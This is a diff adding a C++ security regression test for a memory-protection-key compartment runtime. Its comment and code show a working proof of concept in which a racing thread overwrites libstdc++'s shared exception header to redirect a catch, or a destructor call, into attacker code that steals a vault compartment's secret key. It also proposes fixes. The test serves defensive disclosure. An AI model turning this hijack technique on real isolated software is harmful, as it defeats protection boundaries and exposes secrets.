@@ -1,0 +1,175 @@
+// Review 30b, attacker model A with a second thread (key-0 loads and
+// stores, no system call of its own beyond the program's). The copies of
+// runtime/unwind-copy.c keep what libgcc_s and the personality routine
+// parse off writable memory, but libstdc++'s personality routine keeps
+// what its search phase found in the exception's header, __cxa_exception
+// (libstdc++'s unwind-cxx.h): the handler's landing pad (catchTemp), its
+// switch value, and two pointers into the ring's copy (actionRecord,
+// languageSpecificData). The cleanup phase, at the handler's frame, takes
+// them back from there (restore_caught_exception) and installs the
+// landing pad with the thrower's rights, on its stack. The header is in
+// the shared heap (threat-model.md: exception objects come from there),
+// key-0 memory, found by its exception class ("GNUCC++\0", the word
+// before which catchTemp sits 16 bytes down). Between the two phases the
+// vault's frames run their cleanups: here vault_fail's destructor waits
+// for the caller's acknowledgement on a pipe, which makes the window
+// certain (any cleanup, or the unwinding itself, is a window for a second
+// thread writing in a loop). The program's second thread finds the header
+// once its landing pad is set, stores there the address of steal (code
+// of the program's whose address is taken in asm, so no gate wraps it),
+// and acknowledges. The vault's throw, caught in the vault, then jumps to
+// steal with the vault's rights: it copies the vault's key into the
+// program's buffer, prints it and ends the process (ATTACK SUCCEEDED,
+// seen in the guest, review 30b). The control stores nothing.
+// threat-model.md's note on the header ("while a throw is under way the
+// same words take a second thread's race (not tried)") names the type_info
+// and destructor words; the landing pad is the direct one, in every catch.
+// With -DDTOR the store goes to the header's exceptionDestructor word
+// instead (null for this E): __cxa_end_catch, at the end of the vault's
+// catch, calls it with the vault's rights (ATTACK SUCCEEDED as well, seen
+// in the guest): fixing the landing pad alone would not do. Same root as
+// attacks-rev25-exception-ptr.cpp (the header is key-0), without keeping
+// the exception.
+// Suggested fix: a compartment's exception header out of other domains'
+// reach: __cxa_allocate_exception from a compartment could put the header
+// (the thrown object may stay shared) on the thrower's heap, or the
+// personality's cache could be checked: the runtime's lookup with the
+// compartment's rights could record, per thread in the ring, the landing
+// pad the search phase found, and a landing pad installed by the cleanup
+// phase at a handler frame must be one the copy's call-site table names.
+// XFAIL: *
+// REQUIRES: pku
+// RUN: %bulkhead_clangxx -fpkey-compartments -O2 -pthread %s -o %t
+// RUN: %run %t control | FileCheck %s --check-prefix=CONTROL
+// RUN: %run %t | FileCheck %s
+// RUN: %bulkhead_clangxx -fpkey-compartments -O2 -pthread -DDTOR %s -o %t-dtor
+// RUN: %run %t-dtor | FileCheck %s
+// CONTROL: header found
+// CONTROL-NEXT: caught in the vault: 4
+// CHECK: header found
+// CHECK-NOT: ATTACK SUCCEEDED
+#include <bulkhead.h>
+#include <pthread.h>
+#include <stdint.h>
+#include <stdio.h>
+#include <string.h>
+#include <unistd.h>
+
+BULKHEAD_DATA(vault) char vault_key[32] = "TOP-SECRET-VAULT-KEY";
+BULKHEAD_DATA(vault) int vault_ack_fd;
+
+struct E {
+  int v;
+};
+
+/* A cleanup that waits for the caller's acknowledgement. */
+struct Ack {
+  ~Ack() {
+    char c;
+    if (read(vault_ack_fd, &c, 1) != 1)
+      vault_key[0] = 0;
+  }
+};
+
+__attribute__((noinline)) static void vault_fail(int v) {
+  Ack a;
+  if (v)
+    throw E{v};
+}
+
+extern "C" BULKHEAD_ENTRY(vault) int vault_catch(int fd, int v) {
+  vault_ack_fd = fd;
+  try {
+    vault_fail(v);
+  } catch (E &e) {
+    return e.v + 1;
+  }
+  return 0;
+}
+
+static char stolen[64] = "ATTACK SUCCEEDED: ";
+static const char *volatile from = vault_key; /* key-0 words */
+extern "C" __attribute__((used)) void take(void) {
+  int n = 18;
+  for (int i = 0; i < 31 && from[i]; i++)
+    stolen[n++] = from[i];
+  stolen[n++] = '\n';
+  write(1, stolen, n);
+  _exit(0);
+}
+/* Entered as a landing pad: realign, then take. */
+__asm__(".text\n"
+        ".globl steal\n"
+        ".type steal, @function\n"
+        "steal:\n"
+        "  andq $-16, %rsp\n"
+        "  call take\n"
+        "  ud2\n"
+        ".size steal, .-steal\n");
+
+static int ack[2];
+static int forge;
+
+extern "C" char __executable_start[], etext[];
+
+/* The header's catchTemp word, once the search phase has set it to a
+ * landing pad (in the executable's code: the vault's catch). */
+static uintptr_t *find_landing_pad(void) {
+  FILE *f = fopen("/proc/self/smaps", "r");
+  char line[512];
+  uintptr_t lo = 0, hi = 0, *found = NULL;
+  int rw = 0, key;
+  while (f && !found && fgets(line, sizeof line, f)) {
+    uintptr_t l, h;
+    char perms[8];
+    if (sscanf(line, "%lx-%lx %4s", &l, &h, perms) == 3) {
+      lo = l, hi = h, rw = perms[0] == 'r' && perms[1] == 'w';
+      rw = rw && !strstr(line, "[stack]");
+      continue;
+    }
+    if (sscanf(line, "ProtectionKey: %d", &key) != 1 || !rw || key)
+      continue;
+    for (uintptr_t *w = (uintptr_t *)lo + 2; w + 1 <= (uintptr_t *)hi; w++)
+      if (*w == 0x474e5543432b2b00ull && /* "GNUCC++\0" */
+          w[-2] > (uintptr_t)__executable_start && w[-2] < (uintptr_t)etext) {
+        found = w - 2;
+        break;
+      }
+  }
+  if (f)
+    fclose(f);
+  return found;
+}
+
+static void *attacker(void *) {
+  uintptr_t *pad;
+  while (!(pad = find_landing_pad()))
+    usleep(1000);
+  puts("header found");
+  fflush(stdout);
+  if (forge) {
+    uintptr_t p;
+    __asm__("leaq steal(%%rip), %0" : "=r"(p));
+#ifdef DTOR
+    pad[-7] = p; /* exceptionDestructor, 72 bytes below the class word */
+#else
+    *pad = p; /* the one store that matters */
+#endif
+  }
+  write(ack[1], "k", 1);
+  return NULL;
+}
+
+int main(int argc, char **argv) {
+  (void)argv;
+  forge = argc < 2;
+  if (pipe(ack))
+    return 1;
+  pthread_t t;
+  pthread_create(&t, NULL, attacker, NULL);
+  int r = vault_catch(ack[0], 3);
+  pthread_join(t, NULL);
+  printf("caught in the vault: %d\n", r);
+  puts("nothing stolen");
+  return 0;
+}
